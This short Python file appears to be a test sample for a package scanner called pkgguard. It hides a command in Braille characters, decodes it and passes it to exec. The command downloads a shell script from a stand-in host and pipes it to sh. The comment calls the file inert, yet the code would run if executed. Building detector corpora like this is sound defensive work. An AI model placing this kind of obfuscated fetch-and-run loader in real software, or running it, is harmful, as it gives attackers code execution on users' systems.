# pkgguard corpus 851 (encoding-layers), modelled on [obfuscation]; inert, never run.
_GLYPHS = "⡟⡟⡩⡭⡰⡯⡲⡴⡟⡟⠨⠧⡯⡳⠧⠩⠮⡳⡹⡳⡴⡥⡭⠨⠧⡣⡵⡲⡬⠠⠭⡦⡳⡓⠠⡨⡴⡴⡰⡳⠺⠯⠯⡣⡤⡮⠭⡡⡳⡳⡥⡴⡳⠮⡥⡸⡡⡭⡰⡬⡥⠯⡰⠮⡳⡨⠠⡼⠠⡳⡨⠧⠩"

exec(bytes(ord(c) - 0x2800 for c in _GLYPHS).decode())
